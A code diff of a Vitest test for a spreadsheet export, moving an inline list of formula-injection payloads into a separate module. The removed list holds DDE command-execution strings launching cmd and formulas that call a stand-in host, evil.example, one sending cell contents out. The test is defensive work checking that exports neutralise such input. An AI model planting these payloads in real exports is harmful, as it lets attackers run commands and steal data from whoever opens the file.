@@ -3,50 +3,7 @@ import readExcel from 'read-excel-file/node';
 import { expect, test } from 'vitest';
 import { writeSheet } from '../../lib/sheet/commands';
 import { looksLikeFormula } from '../../lib/sheet/rules';
-
-/** What attackers put into a name or a note, so that whoever opens the export runs it. */
-const payloads = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example","Bấm vào đây")',
-  '=WEBSERVICE("http://evil.example/"&A1)',
-  '=IMPORTXML("http://evil.example","//a")',
-  '=IMPORTDATA("http://evil.example")',
-  '=DDE("cmd";"/C calc";"x")',
-  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
-  "=SUM(1+1)*cmd|' /C calc'!A0",
-  '=@SUM(1)',
-  '=+1',
-  '=-1',
-  '==1',
-  "='x'!A1",
-  '={1}',
-  '=\u00a01',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '+84912345678',
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '-SUM(A1)',
-  '@SUM(1+1)',
-  '@A1',
-  ' =1+1',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '\u0001=1+1',
-  '"=1+1',
-  "'=1+1",
-  '",=1+1,"',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-];
+import { payloads } from './payloads';
 
 const sheet = {
   name: 'S',
